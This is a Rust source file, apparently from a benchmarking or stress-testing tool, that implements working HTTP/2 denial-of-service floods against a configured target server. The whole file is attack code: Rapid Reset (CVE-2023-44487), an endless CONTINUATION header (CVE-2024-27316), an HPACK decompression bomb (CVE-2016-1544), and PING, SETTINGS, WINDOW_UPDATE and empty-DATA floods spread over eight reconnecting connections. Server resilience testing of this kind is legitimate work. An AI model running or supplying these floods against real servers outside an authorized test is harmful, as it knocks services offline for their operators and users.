//! The floods of HTTP/2: frames that are valid one by one.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::TcpStream;
use std::sync::Arc;
use std::time::Instant;

use bench_tools::quic::Failure;
use bench_tools::tls;
use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection};

use super::{NAME, SentCounts, Target};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Connections at a time: while one waits for the server, others send.
const CONNECTIONS: usize = 8;
/// Sent at once, at most about so much.
const PIECE_BYTES: usize = 16 * 1024;
/// A frame of this length is allowed without being asked for (RFC 9113 §4.2).
const FRAME_BYTES: usize = 16 * 1024;
/// The entry that the HPACK bomb refers to: as large as the table of 4096 bytes takes, less the 32
/// of RFC 7541 §4.1 and those of its name.
const BOMB_VALUE_BYTES: usize = 4000;
/// A stream number that is hardly ever reached; a new connection begins before.
const LAST_STREAM: u32 = 0x7fff_0001;

// Types of frames and their flags (RFC 9113 §6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
const INITIAL_WINDOW_SIZE: u16 = 4;

#[derive(Clone, Copy, PartialEq, Eq)]
pub enum FloodKind {
    /// A request, taken back at once (CVE-2023-44487).
    RapidReset,
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    Ping,
    /// Each changes the window of all streams.
    Settings,
    WindowUpdate,
    /// DATA frames without data, on a stream that does not end.
    EmptyData,
    /// Heads of 16 KB that decode to 64 MB (CVE-2016-1544).
    HpackBomb,
}

impl FloodKind {
    pub fn of(name: &str) -> Option<FloodKind> {
        Some(match name {
            "rapid_reset" => FloodKind::RapidReset,
            "continuation" => FloodKind::Continuation,
            "ping" => FloodKind::Ping,
            "settings" => FloodKind::Settings,
            "window_update" => FloodKind::WindowUpdate,
            "empty_data" => FloodKind::EmptyData,
            "hpack_bomb" => FloodKind::HpackBomb,
            _ => return None,
        })
    }
}

/// Sends until the time is over.
///
/// # Errors
/// The server cannot be reached at all.
pub fn flood(kind: FloodKind, target: &Target) -> Result<SentCounts, Failure> {
    let config = target.has_tls.then(|| tls::client(b"h2")).transpose()?;
    let config = config.map(Arc::new);
    let mut sent = SentCounts::default();
    let mut links: Vec<Option<Link>> = (0..CONNECTIONS).map(|_| None).collect();
    // The first one must come about; later the server may be too busy for a while.
    links[0] = Some(Link::open(target, config.as_ref())?);
    sent.connections += 1;
    while Instant::now() < target.ends_at {
        for place in &mut links {
            match place {
                Some(link) => {
                    if link.go_on(kind, target, &mut sent).is_err() {
                        *place = None;
                    }
                }
                None => {
                    *place = Link::open(target, config.as_ref()).ok();
                    sent.connections += u64::from(place.is_some());
                }
            }
        }
    }
    Ok(sent)
}

/// The connection is over.
struct EndedConnection;

impl From<std::io::Error> for EndedConnection {
    fn from(_: std::io::Error) -> EndedConnection {
        EndedConnection
    }
}

/// A connection that is flooded.
struct Link {
    socket: TcpStream,
    tls: Option<ClientConnection>,
    /// The bytes to send, from `at` on, and the number of their frames.
    output: Vec<u8>,
    at: usize,
    frames: u64,
    next_stream: u32,
    has_begun: bool,
}

impl Link {
    fn open(target: &Target, config: Option<&Arc<ClientConfig>>) -> Result<Link, Failure> {
        let socket = TcpStream::connect(target.at)?;
        socket.set_nonblocking(true)?;
        socket.set_nodelay(true)?;
        let tls = match config {
            None => None,
            Some(config) => {
                let name = ServerName::try_from(NAME)?;
                Some(ClientConnection::new(config.clone(), name)?)
            }
        };
        let mut link = Link {
            socket,
            tls,
            output: PREFACE.to_vec(),
            at: 0,
            frames: 0,
            next_stream: 1,
            has_begun: false,
        };
        link.frame(SETTINGS, 0, 0, &[]);
        Ok(link)
    }

    /// Sends some, and throws away what came.
    fn go_on(
        &mut self,
        kind: FloodKind,
        target: &Target,
        sent: &mut SentCounts,
    ) -> Result<(), EndedConnection> {
        if self.at == self.output.len() {
            sent.pieces += std::mem::take(&mut self.frames);
            self.output.clear();
            self.at = 0;
            if self.next_stream >= LAST_STREAM {
                return Err(EndedConnection);
            }
            self.fill(kind, target);
        }
        let written = self.write()?;
        self.at += written;
        sent.bytes += written as u64;
        self.read()
    }

    /// How many bytes of the output were taken.
    fn write(&mut self) -> Result<usize, EndedConnection> {
        let rest = self.output.get(self.at..).unwrap_or_default();
        let Some(tls) = &mut self.tls else {
            return would_block(self.socket.write(rest));
        };
        let taken = if tls.is_handshaking() || tls.wants_write() {
            0
        } else {
            tls.writer().write(rest)?
        };
        while tls.wants_write() {
            if would_block(tls.write_tls(&mut self.socket))? == 0 {
                break;
            }
        }
        Ok(taken)
    }

    fn read(&mut self) -> Result<(), EndedConnection> {
        let mut scratch = [0; PIECE_BYTES];
        let Some(tls) = &mut self.tls else {
            return match self.socket.read(&mut scratch) {
                Ok(0) => Err(EndedConnection),
                read => would_block(read).map(drop),
            };
        };
        match tls.read_tls(&mut self.socket) {
            Ok(0) => return Err(EndedConnection),
            read => drop(would_block(read)?),
        }
        tls.process_new_packets().map_err(|_| EndedConnection)?;
        match tls.reader().read(&mut scratch) {
            Ok(0) => Err(EndedConnection),
            read => would_block(read).map(drop),
        }
    }

    /// Makes the next piece of the flood.
    fn fill(&mut self, kind: FloodKind, target: &Target) {
        let is_first = !std::mem::replace(&mut self.has_begun, true);
        let head = head(
            target,
            if kind == FloodKind::EmptyData {
                0x83
            } else {
                0x82
            },
        );
        match kind {
            FloodKind::HpackBomb => return self.fill_with_a_bomb(head, is_first),
            FloodKind::Continuation if is_first => self.frame(HEADERS, 0, 1, &head),
            FloodKind::EmptyData if is_first => self.frame(HEADERS, END_HEADERS, 1, &head),
            _ => {}
        }
        while self.output.len() < PIECE_BYTES {
            match kind {
                FloodKind::RapidReset => {
                    let stream = self.next_stream;
                    self.next_stream += 2;
                    self.frame(HEADERS, END_STREAM | END_HEADERS, stream, &head);
                    self.frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                }
                // A field `x` with the value `y`, as a literal.
                FloodKind::Continuation => self.frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']),
                FloodKind::Ping => self.frame(PING, 0, 0, &[0; 8]),
                FloodKind::Settings => {
                    let value = 60_000 + (self.output.len() as u32 & 0xff);
                    let [high, low] = INITIAL_WINDOW_SIZE.to_be_bytes();
                    let [a, b, c, d] = value.to_be_bytes();
                    self.frame(SETTINGS, 0, 0, &[high, low, a, b, c, d]);
                }
                FloodKind::WindowUpdate => self.frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
                FloodKind::EmptyData => self.frame(DATA, 0, 1, &[]),
                FloodKind::HpackBomb => return,
            }
        }
    }

    /// The first head puts a long field into the table, and each has as many references to it as
    /// fit.
    fn fill_with_a_bomb(&mut self, mut head: Vec<u8>, is_first: bool) {
        if is_first {
            // A literal that is put into the table, with a new name of one byte; its length has
            // seven bits, then the rest (RFC 7541 §5.1, §6.2.1).
            let rest = BOMB_VALUE_BYTES - 127;
            head.extend_from_slice(&[0x40, 1, b'x', 127, rest as u8 | 0x80, (rest >> 7) as u8]);
            head.resize(head.len() + BOMB_VALUE_BYTES, b'y');
        }
        // The first entry of the dynamic table has the index 62.
        head.resize(FRAME_BYTES, 0x80 | 62);
        let stream = self.next_stream;
        self.next_stream += 2;
        self.frame(HEADERS, END_STREAM | END_HEADERS, stream, &head);
    }

    fn frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        let [_, high, middle, low] = (payload.len() as u32).to_be_bytes();
        self.output
            .extend_from_slice(&[high, middle, low, kind, flags]);
        self.output.extend_from_slice(&stream.to_be_bytes());
        self.output.extend_from_slice(payload);
        self.frames += 1;
    }
}

/// A request's fields: method (an index of the static table), scheme, authority and path. Nothing
/// of it goes into the dynamic table.
fn head(target: &Target, method: u8) -> Vec<u8> {
    let scheme = if target.has_tls { 0x87 } else { 0x86 };
    let mut block = vec![method, scheme];
    for (name, value) in [(1, NAME), (4, target.path.as_str())] {
        block.push(name);
        block.push(value.len().min(126) as u8);
        block.extend_from_slice(&value.as_bytes()[..value.len().min(126)]);
    }
    block
}

/// Nothing, where there is nothing to do for the moment.
fn would_block(done: std::io::Result<usize>) -> Result<usize, EndedConnection> {
    match done {
        Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::Interrupted) => {
            Ok(0)
        }
        done => Ok(done?),
    }
}
